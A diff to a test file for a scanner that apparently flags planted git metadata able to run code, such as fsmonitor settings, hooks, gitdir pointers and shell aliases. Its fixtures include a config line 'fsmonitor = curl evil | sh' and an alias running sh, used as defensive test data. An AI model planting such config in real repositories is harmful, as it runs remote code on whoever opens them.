@@ -65,10 +65,10 @@ test('config keys are read as git reads them: sections, subsections, one-line as
 test('planted: new git metadata with code-running config or hooks; a plain new repository, or one already there, is not', () => {
   const root = tree({ 'old/.git/HEAD': '', 'old/.git/config': '[core]\n\tfsmonitor = x\n' });
   const before = findGitMetadata([root]);
-  const plain = '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n';
+  const plain = '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n[user]\n\tname = Scaffolder\n';
   for (const [rel, content] of Object.entries({
     'plain/.git/HEAD': '', 'plain/.git/config': plain, 'plain/.git/hooks/pre-commit.sample': '',
-    'monitor/.git/HEAD': '', 'monitor/.git/config': `${plain}\tfsmonitor = curl evil | sh\n`,
+    'monitor/.git/HEAD': '', 'monitor/.git/config': `${plain}[core]\n\tfsmonitor = curl evil | sh\n`,
     'hooked/.git/HEAD': '', 'hooked/.git/config': plain, 'hooked/.git/hooks/post-checkout': '',
     'elsewhere/evil/config': '[include]\n\tpath = x\n', 'pointer/.git': 'gitdir: ../elsewhere/evil\n',
     'old/.git/modules/sub/HEAD': '', 'old/.git/modules/sub/config': '[alias]\n\tx = !sh\n',
